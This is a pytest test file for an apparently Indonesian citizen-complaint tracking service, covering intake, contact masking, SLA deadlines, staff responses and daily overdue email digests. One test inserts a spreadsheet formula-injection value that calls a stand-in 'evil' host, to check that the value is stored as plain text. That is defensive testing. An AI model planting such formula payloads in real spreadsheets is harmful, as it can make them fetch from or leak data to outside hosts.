"""The whole cycle on the embedded store: intake, staff answers, sweep, daily digest."""
from __future__ import annotations

import email
from datetime import timedelta
from email import policy
from pathlib import Path

import pytest

from functions.model import InvalidComplaint, Sla, Status
from functions.services.jobs import daily_job, sweep_job
from functions.services.staff import staff_edit
from functions.services.intake import intake
from tests.conftest import complaint
from tests.fakes.clock import FakeClock


def answer(svc, ticket, text="Sudah ditindaklanjuti.", status="Diproses"):
    staff_edit(svc.workbook, svc.schema, ticket, [f"status={status}", f"response={text}", "responder=Andi"], "KMC")


def row_of(svc, ticket):
    return svc.workbook.find(ticket).row


def test_intake_routes_stores_and_masks(svc, clock):
    receipt = intake(svc, complaint("jalan di desa kami rusak parah banyak lubang", clock, name="Budi Santoso Wijaya",
                                   phone="081328383222"))
    case = svc.workbook.find(receipt.ticket_id)
    assert receipt.created and case.tab == "PUTR" == receipt.opd
    r = case.row
    assert r["reporter"] == "Budi S. W." and r["contact"] == "0813****3222"
    assert r["status"] == Status.NEW and r["sla"] == Sla.RUNNING
    assert r["deadline"] == clock() + timedelta(hours=48) == receipt.deadline
    stored = svc.contacts.get(receipt.ticket_id).contact
    assert stored.name == "Budi Santoso Wijaya" and stored.phone == "081328383222"


def test_redelivery_gives_the_same_ticket_and_writes_nothing_new(svc, clock):
    sent_at = FakeClock(clock())  # the message keeps its own timestamp when Meta redelivers it
    first = intake(svc, complaint("sampah menumpuk di pasar", sent_at, source_id="wamid.1"))
    clock.advance(days=2)
    again = intake(svc, complaint("sampah menumpuk di pasar", sent_at, source_id="wamid.1"))
    assert again.ticket_id == first.ticket_id and not again.created
    assert sum(len(rows) for rows in svc.workbook.read_all().values()) == 1


@pytest.mark.parametrize("text", ["", "   \n ", "\x00\u202e\u200b"])  # a megabyte is stored (issue 16, item 26)
def test_bad_complaints_are_refused_and_nothing_is_written(svc, clock, text):
    with pytest.raises(InvalidComplaint):
        intake(svc, complaint(text, clock))
    assert sum(len(rows) for rows in svc.workbook.read_all().values()) == 0


def test_formula_text_is_stored_as_text(svc, clock):
    receipt = intake(svc, complaint("=IMPORTXML(\"http://evil\") jalan rusak", clock))
    assert row_of(svc, receipt.ticket_id)["text"].startswith("=IMPORTXML")


@pytest.mark.parametrize("answered_after_hours,expected", [
    (47.99, Sla.ON_TIME),
    (48.0, Sla.ON_TIME),  # exactly 2 x 24 hours is still on time
    (48 + 1 / 60, Sla.LATE),  # one minute late
])
def test_sla_judged_when_the_sweep_finds_the_response(svc, clock, answered_after_hours, expected):
    start = clock()
    receipt = intake(svc, complaint("lampu jalan mati", clock))
    clock.set(start + timedelta(hours=answered_after_hours))
    answer(svc, receipt.ticket_id)
    report = sweep_job(svc)
    r = row_of(svc, receipt.ticket_id)
    assert report.responded == [receipt.ticket_id]
    assert r["responded_at"] == clock() and r["sla"] == expected


def test_answer_erased_by_staff_keeps_first_response_time_and_is_reported(svc, clock):
    receipt = intake(svc, complaint("KTP belum jadi", clock))
    clock.advance(hours=5)
    answer(svc, receipt.ticket_id)
    sweep_job(svc)
    first = row_of(svc, receipt.ticket_id)["responded_at"]
    clock.advance(hours=1)
    staff_edit(svc.workbook, svc.schema, receipt.ticket_id, ["response="], "KMC")
    report = sweep_job(svc)
    r = row_of(svc, receipt.ticket_id)
    assert report.erased == [receipt.ticket_id]
    assert r["responded_at"] == first and r["sla"] == Sla.ON_TIME and "dihapus" in r["note"]
    assert sweep_job(svc).erased == []  # reported once, not every 15 minutes


def test_daily_marks_overdue_and_digest_names_them(svc, clock, settings):
    late = intake(svc, complaint("jalan berlubang di Sandai", clock))
    answered = intake(svc, complaint("sampah tidak diangkut", clock))
    clock.advance(hours=3)
    answer(svc, answered.ticket_id)
    sweep_job(svc)
    clock.advance(hours=46)  # 49 h after the first complaint
    fresh = intake(svc, complaint("lampu jalan mati", clock))
    report = daily_job(svc)
    assert report.marked_overdue == [late.ticket_id]
    assert row_of(svc, late.ticket_id)["sla"] == Sla.OVERDUE
    assert row_of(svc, fresh.ticket_id)["sla"] == Sla.RUNNING
    eml = Path(report.delivered)
    assert eml.parent == settings.outbox_dir and eml.with_suffix(".html").exists()
    msg = email.message_from_bytes(eml.read_bytes(), policy=policy.default)
    assert msg["To"] == "bupati@example.go.id, sekda@example.go.id"
    text = msg.get_body(("plain",)).get_content()
    html = msg.get_body(("html",)).get_content()
    for part in (text, html):
        assert late.ticket_id in part and answered.ticket_id not in part.split("ADUAN TERLAMBAT")[-1]
        assert "PUTR" in part
    assert "Belum ditanggapi" in text or "BELUM DITANGGAPI" in text


def test_late_answer_after_overdue_stays_visible_as_late(svc, clock):
    receipt = intake(svc, complaint("jalan rusak", clock))
    clock.advance(hours=50)
    daily_job(svc)
    answer(svc, receipt.ticket_id)
    sweep_job(svc)
    assert row_of(svc, receipt.ticket_id)["sla"] == Sla.LATE


def test_daily_twice_for_the_same_date_sends_once(svc, clock, settings):
    intake(svc, complaint("jalan rusak", clock))
    clock.advance(hours=49)
    first = daily_job(svc)
    second = daily_job(svc)
    assert not first.already_sent and second.already_sent
    assert len(list(settings.outbox_dir.glob("*.eml"))) == 1
    clock.advance(days=1)
    assert not daily_job(svc).already_sent
    assert len(list(settings.outbox_dir.glob("*.eml"))) == 2


def test_dry_run_writes_nothing(svc, clock, settings):
    receipt = intake(svc, complaint("jalan rusak", clock))
    clock.advance(hours=49)
    report = daily_job(svc, dry_run=True)
    assert report.marked_overdue == [receipt.ticket_id]
    assert row_of(svc, receipt.ticket_id)["sla"] == Sla.RUNNING
    assert not settings.outbox_dir.exists() or not list(settings.outbox_dir.glob("*.eml"))


def test_a_case_the_citizen_withdrew_is_never_marked_overdue(svc, clock):
    from functions.services.replies import withdrawn_note
    from functions.stores.port import CellUpdate

    receipt = intake(svc, complaint("jalan rusak", clock))
    svc.workbook.update([CellUpdate(receipt.ticket_id, {"note": withdrawn_note(clock())})])
    clock.advance(hours=60)
    assert daily_job(svc).marked_overdue == []
    assert row_of(svc, receipt.ticket_id)["sla"] == Sla.RUNNING
